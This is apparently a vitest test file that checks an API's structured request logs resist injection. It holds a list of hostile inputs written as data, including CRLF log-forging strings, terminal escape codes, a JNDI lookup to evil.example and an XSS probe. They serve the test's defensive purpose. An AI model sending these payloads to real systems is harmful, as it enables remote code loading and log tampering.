import { afterAll, beforeAll, expect, test } from 'vitest';
import { z } from 'zod';
import { startApi, type TestApi } from '../../testing/api.ts';
import { nameOf, routesOf } from '../../testing/routes-of.ts';

let api: TestApi;

beforeAll(async () => {
  api = await startApi();
});
afterAll(() => api.close());

/** Everything that a line about a call may say. */
const requestLine = z.strictObject({
  time: z.iso.datetime(),
  level: z.literal('info'),
  event: z.literal('request'),
  requestId: z.uuid(),
  method: z.enum(['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS']),
  route: z.string().max(100),
  status: z.int().min(200).max(599),
  ms: z.number().min(0),
  userId: z
    .string()
    .regex(/^usr_\w{26}$/)
    .optional(),
  fetchSite: z.enum(['same-origin', 'same-site', 'cross-site', 'none']).optional(),
});

const payloads = [
  'a\r\n{"level":"error"}',
  'a\n{"time":"2026-01-01T00:00:00Z"}',
  'a\rb',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b[2J',
  '\u0000',
  '\u0008\u0008\u0008',
  '\u0085next',
  '\u2028line',
  '\u2029paragraph',
  '\u202Egnp.exe',
  '\uFEFF',
  '"}{"level":"fatal',
  '\\n\\r',
  '%0d%0aSet-Cookie:%20x=1',
  '${jndi:ldap://evil.example/a}',
  '%s%n%x',
  '<script>alert(1)</script>',
  'x'.repeat(10_000),
];

test('a thousand lines have the members of their kind and no others', async () => {
  const token = await api.signIn('owner@freight-hq.example');
  const patterns = new Set(routesOf(api.app).map(({ path }) => path));
  const routes = routesOf(api.app).filter((route) => nameOf(route) !== 'POST /hq/api/logout');
  const from = api.log.length;
  for (let count = 0; count < 1_000; count += 1) {
    const route = routes[count % routes.length];
    if (!route) break;
    const path = route.path.replaceAll(/:\w+/g, encodeURIComponent(payloads[count % payloads.length] ?? ''));
    const site = { 'sec-fetch-site': count % 3 === 0 ? 'same-origin' : 'made-up' };
    await api.call(route.method, path.slice(0, 2_000), { token: count % 2 === 0 ? token : undefined, headers: site });
  }
  const lines = api.log.slice(from).map((line) => JSON.parse(line) as { event: string; route: string });
  const requests = lines.filter(({ event }) => event === 'request');
  expect(requests.length).toBeGreaterThanOrEqual(700);
  for (const line of requests) {
    expect.soft(requestLine.safeParse(line).error?.issues ?? []).toEqual([]);
    expect.soft([...patterns, 'unknown']).toContain(line.route);
  }
  expect(lines.filter(({ event }) => !['request', 'fault', 'unavailable'].includes(event))).toEqual([]);
});

test('no value can forge, colour or flood a line, wherever it comes in', async () => {
  expect(payloads).toHaveLength(20);
  for (const payload of payloads) {
    const from = api.log.length;
    const encoded = encodeURIComponent(payload).slice(0, 1_900);
    const headers = { 'sec-fetch-site': encoded, 'user-agent': encoded, 'x-request-id': encoded, referer: encoded };
    const body = { email: payload, password: payload, employeeId: payload };
    await api.call('POST', `/hq/api/login?q=${encoded}`, { body, headers });
    await api.call('GET', `/api/${encoded}`, { headers });
    await api.call('GET', `/api/hq/tenants/${encoded}?q=${encoded}`, { headers });
    const lines = api.log.slice(from);
    expect(lines).toHaveLength(3);
    for (const line of lines) {
      expect.soft(requestLine.safeParse(JSON.parse(line)).success, line).toBe(true);
      expect.soft(line).not.toMatch(/[\p{Cc}]/u);
      expect.soft(line.length).toBeLessThan(400);
    }
  }
});
